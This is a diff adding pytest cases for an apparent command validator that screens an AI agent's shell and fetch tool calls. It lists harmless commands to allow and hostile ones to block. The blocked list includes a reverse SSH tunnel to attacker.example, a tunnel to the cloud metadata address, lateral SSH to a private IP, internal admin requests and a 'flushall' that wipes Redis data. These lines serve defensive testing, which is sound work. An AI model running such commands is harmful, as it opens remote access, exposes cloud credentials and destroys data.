@@ -201,3 +201,41 @@ def test_odd_input_never_raises() -> None:
         {"url": "http://\udcff/"},
     ]:
         _v("fetch", args)
+
+
+# --- listen addresses, remote shells to loopback, placeholder names -------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        "python -m http.server 8000 --bind 127.0.0.1",
+        "uvicorn app:app --host 0.0.0.0 --port 8000",
+        "npm run dev -- --host 0.0.0.0",
+        "ssh localhost",
+        "ssh -N -L 5432:127.0.0.1:5432 localhost",
+        "scp file.txt localhost:/tmp/",
+        "rsync -av build/ localhost:/srv/app/",
+        "curl http://example/api",
+        "ssh user@host",
+        "curl http://server:8080/status",
+    ],
+)
+def test_listen_addresses_loopback_logins_and_placeholders_pass(cmd: str) -> None:
+    assert _v("run_shell", {"command": cmd}) == []
+
+
+@pytest.mark.parametrize(
+    "cmd",
+    [
+        "curl http://localhost:8080/admin",
+        "curl http://intranet/api",
+        "ssh user@192.168.1.20",
+        "ssh attacker.example -R 9000:localhost:22",
+        "ssh -L 8080:169.254.169.254:80 localhost",
+        "curl --bind 127.0.0.1 http://10.0.0.5/admin",
+        "redis-cli -h 127.0.0.1 flushall",
+    ],
+)
+def test_requests_lateral_moves_and_reverse_tunnels_stay_blocked(cmd: str) -> None:
+    assert _v("run_shell", {"command": cmd}) != []
